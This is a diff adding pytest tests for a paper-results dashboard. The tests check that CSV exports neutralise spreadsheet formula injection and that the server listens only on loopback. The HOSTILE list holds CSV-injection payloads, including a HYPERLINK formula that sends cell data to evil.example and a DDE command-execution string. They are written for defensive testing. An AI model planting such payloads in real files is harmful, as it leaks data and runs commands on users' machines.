@@ -216,6 +216,39 @@ def test_downloads_hold_the_filtered_rows_in_lbx_schema(results):
     assert len(csv) == 2 and "evidence" in csv.columns
 
 
+HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3"]
+
+
+def test_csv_download_defuses_formulas_and_keeps_numbers(tmp_path):
+    """A title, method or evidence from an abstract that a spreadsheet would run as a
+    formula is written with a leading ', a newline stays inside its quoted cell, and
+    numbers stay numbers (a negative value unquoted, a text cell that is only a number as it is)."""
+    import csv as csvmod
+
+    from dashboards import data
+
+    base = fixture_rows()[0]
+    rows = [{**base, "title": HOSTILE[0], "paper_id": "2409.00001"},
+            {**base, "title": HOSTILE[1], "method": HOSTILE[2], "paper_id": "2409.00002"},
+            {**base, "paper_id": "2409.00003", "kind": "delta", "value": -2.1, "value_text": "-2.1",
+             "evidence": HOSTILE[3] + " is what -2.1 WER on LRS3 means.\nA second line.", "title": "Plain"}]
+    df = pd.read_parquet(write_results(tmp_path / "hostile.parquet", rows))
+    raw = data.to_csv(df)
+    cells = list(csvmod.reader(io.StringIO(raw.decode("utf-8"), newline="")))
+    header, body = cells[0], cells[1:]
+    assert len(body) == 3  # the newline in the evidence did not start a row
+    col = {name: [r[header.index(name)] for r in body] for name in header}
+    assert col["title"] == ["'" + HOSTILE[0], "'" + HOSTILE[1], "Plain"]
+    assert col["method"][1] == "'" + HOSTILE[2]
+    assert col["evidence"][2] == "'" + rows[2]["evidence"] and "\n" in col["evidence"][2]
+    assert col["value"][2] == "-2.1" and b",-2.1," in raw  # a number, unquoted, not prefixed
+    assert col["value_text"][2] == "-2.1"
+    # No cell of any row starts with a formula character, whatever reader splits it.
+    assert not [c for r in body for c in r if c[:1] in ("=", "+", "@") or (c[:1] == "-" and c != "-2.1")]
+    back = pd.read_csv(io.BytesIO(raw))
+    assert back["value"].dtype.kind == "f" and back["value"].tolist()[2] == -2.1
+
+
 # --- untrusted text -------------------------------------------------------------------
 
 @pytest.mark.parametrize("params", [{}, {"view": "paper", "paper": XSS_PAPER}])
@@ -327,3 +360,57 @@ def test_lbx_dashboard_refuses_a_missing_file(tmp_path):
 
     out = CliRunner().invoke(dashboard, [str(tmp_path / "nope.parquet")])
     assert out.exit_code == 2 and "does not exist" in out.output
+
+
+def test_lbx_dashboard_listens_on_loopback_unless_told_otherwise(monkeypatch, results):
+    from extractor import cli_dashboard
+
+    seen = []
+    monkeypatch.setattr(cli_dashboard, "run", lambda cmd: seen.append(cmd) or 0)
+    for args, address in (([], "127.0.0.1"), (["--address", "0.0.0.0"], "0.0.0.0"), (["--address", "::1"], "::1")):
+        out = CliRunner().invoke(cli_dashboard.dashboard, [str(results), "--headless", *args])
+        assert out.exit_code == 0, out.output
+        cmd = seen[-1]
+        assert cmd.count("--server.address") == 1 and cmd[cmd.index("--server.address") + 1] == address
+        assert cmd.index("--server.address") < cmd.index("--")  # an option of streamlit's, not the app's
+    out = CliRunner().invoke(cli_dashboard.dashboard, [str(results), "--address", " "])
+    assert out.exit_code == 2 and "give an address" in out.output  # "" would be Streamlit's every interface
+
+
+def test_a_real_lbx_dashboard_listens_only_on_127_0_0_1(tmp_path, results):
+    """Starts `lbx dashboard --headless --port P` and reads which addresses its
+    process tree listens on (psutil, from /proc on Linux)."""
+    import socket
+    import subprocess
+    import time
+    import urllib.request
+
+    import psutil
+
+    from extractor.cli_dashboard import stop
+
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        port = s.getsockname()[1]
+    env = {k: v for k, v in os.environ.items() if k != "LBX_RESULTS"}
+    proc = subprocess.Popen([sys.executable, "-m", "extractor", "dashboard", str(results), "--headless",
+                             "--port", str(port)], cwd=REPO, env=env,
+                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    try:
+        deadline = time.monotonic() + 90
+        while True:
+            assert proc.poll() is None and time.monotonic() < deadline, "the dashboard did not start"
+            try:
+                with urllib.request.urlopen(f"http://127.0.0.1:{port}/_stcore/health", timeout=2) as r:
+                    if r.read().strip() == b"ok":
+                        break
+            except OSError:
+                time.sleep(0.3)
+        tree = [psutil.Process(proc.pid), *psutil.Process(proc.pid).children(recursive=True)]
+        listening = {c.laddr.ip for p in tree for c in p.net_connections(kind="inet")
+                     if c.status == psutil.CONN_LISTEN and c.laddr.port == port}
+        assert listening == {"127.0.0.1"}
+    finally:
+        children = psutil.Process(proc.pid).children(recursive=True) if proc.poll() is None else []
+        stop(proc)
+        psutil.wait_procs(children, timeout=10)
